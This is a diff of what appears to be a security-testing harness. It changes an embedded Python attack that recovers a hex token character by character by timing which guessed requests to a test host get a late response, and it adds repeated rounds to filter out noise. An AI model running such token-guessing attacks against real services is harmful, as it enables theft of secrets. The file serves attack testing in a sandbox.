@@ -40,19 +40,25 @@ function byWhatComesLate(name: string): Attack<NetworkArena> {
       const found = await arena.attempt(`known = '${token.slice(0, 2)}'
 def comes(text, early):
   s = tls('open.test:443')
-  s.sendall(f'GET /halves?given={text} HTTP/1.1\r\nHost: open.test\r\nConnection: close\r\n\r\n'.encode())
-  data = head(s)
-  s.settimeout(0.5)
+  s.sendall(f'GET /halves?given={text} HTTP/1.1\\r\\nHost: open.test\\r\\nConnection: close\\r\\n\\r\\n'.encode())
+  head(s)
+  data = b''
+  s.settimeout(1)
   try:
-    while text.encode() not in data: data += s.recv(4096)
+    # What comes after it may be where another value, or another spelling, begins.
+    while text[:2].encode() not in data: data += s.recv(4096)
     early.append(text)
   except OSError: pass
 for _ in range(${guessed}):
-  guesses, early = [known + one for one in '0123456789abcdef'], []
-  several = [threading.Thread(target=comes, args=(guess, early)) for guess in guesses]
-  for each in several: each.start()
-  for each in several: each.join()
-  late = [guess for guess in guesses if guess not in early]
+  late = [known + one for one in '0123456789abcdef']
+  # Whatever else is slow is not slow again and again.
+  for _ in range(4):
+    early = []
+    several = [threading.Thread(target=comes, args=(guess, early)) for guess in late]
+    for each in several: each.start()
+    for each in several: each.join()
+    late = [guess for guess in late if guess not in early]
+    if len(late) < 2: break
   if len(late) != 1: break
   [known] = late
 print('GUESSED', known)`);
